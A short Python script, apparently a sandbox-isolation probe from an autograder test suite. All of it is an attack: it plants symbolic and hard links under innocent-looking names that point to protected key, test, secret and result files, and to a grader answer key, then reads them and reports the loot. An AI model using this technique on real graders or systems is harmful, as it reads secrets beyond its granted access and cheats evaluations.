"""Puts symbolic and hard links to the secrets among its own files and reads those."""

# control: T0
import os

from toolkit import TARGETS, read, tell

loot = []
for count, name in enumerate(("key", "tests", "secret", "other", "results")):
    for link in (os.symlink, os.link):
        try:
            link(TARGETS[name], f"innocent_{count}_{link.__name__}.txt")
        except OSError:
            continue
        loot += read(f"innocent_{count}_{link.__name__}.txt")
try:
    os.symlink(TARGETS["base"], "data")
    loot += read("data/course/graders/small/key.py")
except OSError:
    loot += []
tell(globals(), loot)
